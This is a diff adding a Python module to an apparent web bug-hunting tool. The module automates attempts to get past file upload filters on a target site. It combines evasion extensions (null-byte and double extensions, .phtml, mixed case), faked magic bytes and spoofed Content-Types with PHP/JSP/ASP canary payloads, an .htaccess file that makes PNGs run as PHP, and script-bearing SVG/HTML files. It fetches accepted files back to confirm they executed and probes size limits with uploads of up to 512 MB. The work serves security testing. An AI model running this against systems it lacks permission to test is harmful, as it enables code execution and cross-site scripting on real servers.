@@ -0,0 +1,372 @@
+"""
+Streaming file upload testing for Parameter Bug Hunter Pro
+"""
+
+import os
+import re
+import mmap
+import hashlib
+import secrets
+import itertools
+import threading
+from pathlib import Path
+from urllib.parse import urljoin
+
+from response_diff import ResponseDiff
+from tampering import TamperEngine
+
+
+class MultipartStream:
+    """``multipart/form-data`` body produced while it is being sent
+
+    The body is a list of segments: literal ``bytes``, ``('file', path)``
+    for a seed file read through ``mmap``, and ``('fill', byte, count)`` for
+    padding. The length is known up front (so requests sends a
+    Content-Length rather than chunking), and ``read()`` hands out one block
+    at a time. A 500 MB size probe therefore never holds more than a
+    chunk in memory, and mapped pages are released once they've been sent.
+    """
+
+    CHUNK = 65536
+    RELEASE = 8 << 20
+
+    def __init__(self, fields, file_field, filename, content_type, segments, boundary=None):
+        self.boundary = boundary or "----pbh" + secrets.token_hex(12)
+        self.content_type = f"multipart/form-data; boundary={self.boundary}"
+        self.parts = []
+        for name, value in fields.items():
+            self.parts.append((f"--{self.boundary}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n"
+                               f"{value}\r\n").encode())
+        self.parts.append((f"--{self.boundary}\r\nContent-Disposition: form-data; name=\"{file_field}\"; "
+                           f"filename=\"{filename}\"\r\nContent-Type: {content_type}\r\n\r\n").encode('utf-8', 'replace'))
+        self.parts.extend(segments)
+        self.parts.append(f"\r\n--{self.boundary}--\r\n".encode())
+        self.length = sum(self.segment_length(part) for part in self.parts)
+        self._chunks = None
+        self._pending = memoryview(b"")
+
+    @staticmethod
+    def segment_length(segment):
+        if isinstance(segment, bytes):
+            return len(segment)
+        if segment[0] == 'file':
+            return os.path.getsize(segment[1])
+        return segment[2]
+
+    def __len__(self):
+        return self.length
+
+    def __iter__(self):
+        return self._generate()
+
+    def _generate(self):
+        for part in self.parts:
+            if isinstance(part, bytes):
+                yield part
+            elif part[0] == 'file':
+                if not os.path.getsize(part[1]):
+                    continue
+                with open(part[1], 'rb') as f, mmap.mmap(f.fileno(), 0, access=mmap.ACCESS_READ) as mapped:
+                    released = 0
+                    for offset in range(0, len(mapped), self.CHUNK):
+                        yield mapped[offset:offset + self.CHUNK]
+                        if hasattr(mapped, 'madvise') and offset - released >= self.RELEASE:
+                            mapped.madvise(mmap.MADV_DONTNEED, released, offset - released)
+                            released = offset
+            else:
+                block = bytes([part[1]]) * min(self.CHUNK, part[2])
+                for _ in range(part[2] // len(block) if block else 0):
+                    yield block
+                if block and part[2] % len(block):
+                    yield block[:part[2] % len(block)]
+
+    def read(self, size=-1):
+        """Up to ``size`` bytes of the body (all of it when negative)"""
+        if self._chunks is None:
+            self._chunks = self._generate()
+        if size is None or size < 0:
+            size = self.length
+        out, count = [], 0
+        while count < size:
+            if not self._pending:
+                chunk = next(self._chunks, None)
+                if chunk is None:
+                    break
+                self._pending = memoryview(chunk)
+            taken = self._pending[:size - count]
+            self._pending = self._pending[len(taken):]
+            out.append(taken)
+            count += len(taken)
+        return b"".join(out)
+
+    def fingerprint(self):
+        """Hash of what would be sent, without reading seed files or padding"""
+        digest = hashlib.sha1()
+        for part in self.parts[:-1]:
+            if isinstance(part, bytes):
+                digest.update(part.replace(self.boundary.encode(), b"-"))
+            elif part[0] == 'file':
+                stat = os.stat(part[1])
+                digest.update(f"file:{os.path.realpath(part[1])}:{stat.st_size}:{stat.st_mtime_ns}".encode())
+            else:
+                digest.update(f"fill:{part[1]}:{part[2]}".encode())
+        return digest.hexdigest()
+
+
+class UploadTester:
+    """Upload filter bypass testing with lazily generated, streamed variants
+
+    Variants are generated lazily as the cross-product of extension tricks,
+    declared Content-Types and the first bytes of the content (magic bytes
+    of common image/document types, or one of the user's seed files with
+    the payload appended). ``strength`` reduces this to a t-wise covering
+    array via ``TamperEngine.covering_array``. Each extension carries a
+    payload that shows, once the file is fetched back, whether it ran: a
+    concatenated canary for server-side code, a script tag for SVG and
+    HTML. Variants whose body fingerprint was already sent are skipped, and
+    the rest go through the pooled client concurrently as
+    ``MultipartStream`` bodies.
+
+    Whether an upload was accepted is decided against two calibrated
+    references: a harmless PNG and an obviously disallowed executable. The
+    size limit is found by uploading padded files, growing exponentially,
+    then bisecting.
+    """
+
+    PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000"
+                        "1f15c4890000000d49444154789c6300010000050001e2262cbc0000000049454e44ae426082")
+    MAGIC = {
+        'none': b"",
+        'gif': b"GIF89a;\n",
+        'jpeg': b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
+        'png': PNG[:16],
+        'pdf': b"%PDF-1.4\n",
+    }
+    PAYLOADS = {
+        'php': "<?php echo 'pbh' . '{c}'; ?>",
+        'jsp': "<% out.print(\"pbh\" + \"{c}\"); %>",
+        'asp': "<% Response.Write(\"pbh\" & \"{c}\") %>",
+        'svg': "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert('pbh{c}')</script></svg>",
+        'html': "<html><body><script>alert('pbh{c}')</script></body></html>",
+        'htaccess': "AddType application/x-httpd-php .png\n",
+    }
+    # (extension, payload kind)
+    EXTENSIONS = [
+        (".php", 'php'), (".php5", 'php'), (".phtml", 'php'), (".phar", 'php'), (".PhP", 'php'),
+        (".php.png", 'php'), (".png.php", 'php'), (".php%00.png", 'php'), (".php;.png", 'php'), (".php.", 'php'),
+        (".jsp", 'jsp'), (".asp", 'asp'), (".aspx", 'asp'), (".svg", 'svg'), (".html", 'html'),
+        ("", 'htaccess'),
+    ]
+    CONTENT_TYPES = ["image/png", "image/jpeg", "image/gif", "application/pdf", "text/plain",
+                     "application/octet-stream", None]
+    TRUE_TYPES = {'php': "application/x-php", 'jsp': "text/plain", 'asp': "text/plain", 'svg': "image/svg+xml",
+                  'html': "text/html", 'htaccess': "text/plain"}
+
+    def __init__(self, client, url, file_field="file", fields=None, headers=None, seeds=(), location=None,
+                 strength=None):
+        self.client = client
+        self.url = url
+        self.file_field = file_field
+        self.fields = dict(fields or {})
+        self.headers = dict(headers or {})
+        self.seeds = [Path(seed) for seed in seeds]
+        self.location = location
+        self.strength = strength
+        self.seen = set()
+        self.stats = {'variants': 0, 'duplicates': 0, 'uploads': 0, 'bytes': 0, 'accepted': 0, 'verified': 0}
+        # Uploads run on HttpClient.map's pool threads
+        self._lock = threading.Lock()
+        self._accepted = None
+        self._rejected = None
+
+    # Building and sending
+
+    def body(self, filename, content_type, segments):
+        return MultipartStream(self.fields, self.file_field, filename, content_type, segments)
+
+    def upload(self, stream):
+        with self._lock:
+            self.stats['uploads'] += 1
+            self.stats['bytes'] += len(stream)
+        headers = dict(self.headers, **{'Content-Type': stream.content_type})
+        return self.client.request('POST', self.url, data=stream, headers=headers)
+
+    def variants(self):
+        """Lazily yield ``(info, filename, content_type, segments)`` for every bypass variant"""
+        prefixes = [(name, [magic] if magic else []) for name, magic in self.MAGIC.items()]
+        prefixes += [(f"seed:{seed.name}", [('file', str(seed)), b"\n"]) for seed in self.seeds]
+        dimensions = [self.EXTENSIONS, self.CONTENT_TYPES, prefixes]
+        if self.strength:
+            rows = TamperEngine.covering_array([len(d) for d in dimensions], self.strength)
+        else:
+            rows = itertools.product(*(range(len(d)) for d in dimensions))
+        for ext_index, type_index, prefix_index in rows:
+            extension, kind = self.EXTENSIONS[ext_index]
+            content_type = self.CONTENT_TYPES[type_index] or self.TRUE_TYPES[kind]
+            prefix_name, prefix = prefixes[prefix_index]
+            filename = ".htaccess" if kind == 'htaccess' else "pbh{token}" + extension
+            info = {'extension': extension or filename, 'kind': kind, 'content_type': content_type,
+                    'prefix': prefix_name}
+            yield info, filename, content_type, prefix + [self.PAYLOADS[kind].encode()]
+
+    def reference(self, kind, count=2):
+        """Calibrated diff of a harmless (``'accepted'``) or disallowed (``'rejected'``) upload"""
+        responses = []
+        for _ in range(count):
+            token = secrets.token_hex(4)
+            if kind == 'accepted':
+                # Different sizes, so an echoed file size is learned as volatile
+                padding = ('fill', 0, secrets.randbelow(4096) + 1)
+                stream = self.body(f"pbh{token}.png", "image/png", [self.PNG, padding])
+            else:
+                stream = self.body(f"pbh{token}.exe", "application/x-msdownload",
+                                   [b"MZ\x90\x00" + secrets.token_bytes(60)])
+            responses.append(self.masked(self.upload(stream)))
+        responses = [response for response in responses if response is not None]
+        if not responses:
+            raise ConnectionError(f"Upload to {self.url} failed")
+        return ResponseDiff().calibrate(responses), responses[0]
+
+    def calibrate(self):
+        """Learn both references, returns whether uploads can be told apart at all"""
+        self._accepted, accepted = self.reference('accepted')
+        self._rejected, rejected = self.reference('rejected')
+        return self._accepted.compare(rejected)['changed'] and self._rejected.compare(accepted)['changed']
+
+    @staticmethod
+    def masked(response):
+        """``(status, text)`` of a response with the echoed upload name masked
+
+        Upload names carry a ``pbh<token>`` prefix, so the name is found
+        however the server rewrote the rest of it.
+        """
+        if response is None:
+            return None
+        return response.status_code, re.sub(r"pbh[0-9a-f]{8}[^\s\"'<>&]*|\.htaccess", "pbhFILE", response.text)
+
+    def verdict(self, response):
+        """``accepted``, ``rejected``, ``error`` or ``unclear`` for one upload response"""
+        if response is None:
+            return 'rejected'
+        if response.status_code >= 500:
+            return 'error'
+        response = self.masked(response)
+        accepted = self._accepted.compare(response)
+        rejected = self._rejected.compare(response)
+        if accepted['changed'] != rejected['changed']:
+            return 'rejected' if accepted['changed'] else 'accepted'
+        # Like neither (or both): go by whichever it is closer to
+        if abs(accepted['similarity'] - rejected['similarity']) > 0.1:
+            return 'accepted' if accepted['similarity'] > rejected['similarity'] else 'rejected'
+        return 'unclear'
+
+    # Verification
+
+    def stored_url(self, name, response):
+        """Where an accepted upload can be fetched from, if known"""
+        if self.location:
+            return self.location.replace("{filename}", name)
+        if response is None:
+            return None
+        match = re.search(r"""(?:["'(=\s]|^)([^"'\s<>()=]*""" + re.escape(name) + r")", response.text)
+        return urljoin(self.url, match.group(1)) if match else None
+
+    def verify(self, info, name, token, response):
+        """Fetch an accepted upload back and check whether its payload ran"""
+        stored = self.stored_url(name, response)
+        if not stored:
+            return None
+        fetched = self.client.get(stored)
+        if fetched is None or fetched.status_code != 200:
+            return None
+        result = {'stored_url': stored, 'served_type': fetched.headers.get('Content-Type', '')}
+        body = fetched.text
+        if info['kind'] in ('php', 'jsp', 'asp'):
+            result['executed'] = f"pbh{token}" in body
+        elif info['kind'] in ('svg', 'html'):
+            served = result['served_type'].split(';')[0].strip().lower()
+            result['executed'] = f"pbh{token}" in body and served in ('text/html', 'image/svg+xml',
+                                                                       'application/xhtml+xml', '')
+        return result
+
+    # Runs
+
+    def run(self, on_result=None):
+        """Send every new variant concurrently, returns one result per upload"""
+        if self._accepted is None:
+            self.calibrate()
+
+        def jobs():
+            for info, filename, content_type, segments in self.variants():
+                self.stats['variants'] += 1
+                fingerprint = self.body(filename, content_type, segments).fingerprint()
+                if fingerprint in self.seen:
+                    self.stats['duplicates'] += 1
+                    continue
+                self.seen.add(fingerprint)
+                yield info, filename, content_type, segments
+
+        def send(job):
+            info, filename, content_type, segments = job
+            token = secrets.token_hex(4)
+            name = filename.replace("{token}", token)
+            segments = [segment.replace(b"{c}", token.encode()) if isinstance(segment, bytes) else segment
+                        for segment in segments]
+            response = self.upload(self.body(name, content_type, segments))
+            result = dict(info, filename=name, status=response.status_code if response is not None else None,
+                          verdict=self.verdict(response))
+            if result['verdict'] == 'accepted':
+                check = self.verify(info, name, token, response)
+                if check:
+                    result.update(check)
+            return result
+
+        results = []
+        for _, result in self.client.map(jobs(), send=send):
+            if result['verdict'] == 'accepted':
+                self.stats['accepted'] += 1
+                self.stats['verified'] += bool(result.get('executed'))
+            results.append(result)
+            if on_result:
+                on_result(result)
+        return results
+
+    def size_limit(self, max_size=512 << 20, tolerance=1024, start=1024):
+        """Largest accepted and smallest rejected upload size, found by bisection"""
+        if self._accepted is None:
+            self.calibrate()
+        probes = []
+
+        def accepted(size):
+            padding = max(0, size - len(self.PNG))
+            stream = self.body(f"pbh{secrets.token_hex(4)}.png", "image/png", [self.PNG, ('fill', 0, padding)])
+            verdict = self.verdict(self.upload(stream))
+            probes.append((size, verdict))
+            return verdict == 'accepted'
+
+        low, high, size = 0, None, start
+        while size <= max_size:
+            if accepted(size):
+                low = size
+                size = min(size * 4, max_size) if size < max_size else max_size + 1
+            else:
+                high = size
+                break
+        if high is not None:
+            while high - low > tolerance:
+                middle = (low + high) // 2
+                if accepted(middle):
+                    low = middle
+                else:
+                    high = middle
+        return {'accepted': low, 'rejected': high, 'max_tested': max(size for size, _ in probes), 'probes': probes}
+
+    @staticmethod
+    def summarize(results):
+        """Accepted variants grouped by extension, dangerous ones first"""
+        groups = {}
+        for result in results:
+            if result['verdict'] == 'accepted':
+                groups.setdefault((result['kind'], result['extension']), []).append(result)
+        return dict(sorted(groups.items(), key=lambda item: (not any(r.get('executed') for r in item[1]),
+                                                             item[0][0] in ('svg', 'html'))))